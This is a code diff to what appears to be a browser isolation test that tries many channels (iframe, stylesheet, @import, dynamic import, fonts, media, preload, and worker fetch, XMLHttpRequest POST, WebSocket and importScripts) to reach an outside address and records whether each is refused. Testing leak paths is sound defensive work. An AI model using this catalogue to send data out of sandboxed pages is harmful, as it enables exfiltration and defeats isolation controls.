@@ -40,6 +40,21 @@
     },
     frame: () => gone(add("iframe", { src: elsewhere, title: "An attempt to leak" })),
     style: () => gone(add("link", { rel: "stylesheet", href: elsewhere })),
+    "style import": () => gone(Object.assign(document.body.appendChild(document.createElement("style")), { textContent: `@import "${elsewhere}";` })),
+    script: () => void import(elsewhere).catch(() => {}),
+    font: () => void new FontFace("leak", `url(${elsewhere})`).load().catch(() => {}),
+    video: () => gone(add("video", { src: elsewhere })),
+    object: () => gone(add("object", { data: elsewhere })),
+    preload: () => gone(add("link", { rel: "preload", as: "image", href: elsewhere })),
+  };
+
+  // What a worker can do besides, as text: it becomes a worker's script.
+  const there = JSON.stringify(elsewhere);
+  const waysOfWorkers = {
+    fetch: `fetch(${there}).catch(() => {})`,
+    XMLHttpRequest: `const request = new XMLHttpRequest(); request.open("POST", ${there}); request.send("leak")`,
+    WebSocket: `new WebSocket(${JSON.stringify(elsewhere.replace("https", "wss"))})`,
+    importScripts: `importScripts(${there})`,
   };
 
   const refused = (attempt) =>
@@ -62,7 +77,9 @@
   globalThis.tryToLeak = async () => {
     const tried = [];
     for (const [way, attempt] of Object.entries(ways)) tried.push({ way, refused: await refused(attempt) });
-    tried.push({ way: "fetch in a worker", refused: await globalThis.workerIsRefused(elsewhere) });
+    for (const [way, attempt] of Object.entries(waysOfWorkers)) {
+      tried.push({ way: `${way} in a worker`, refused: await globalThis.workerIsRefused(attempt) });
+    }
     return tried;
   };
 }
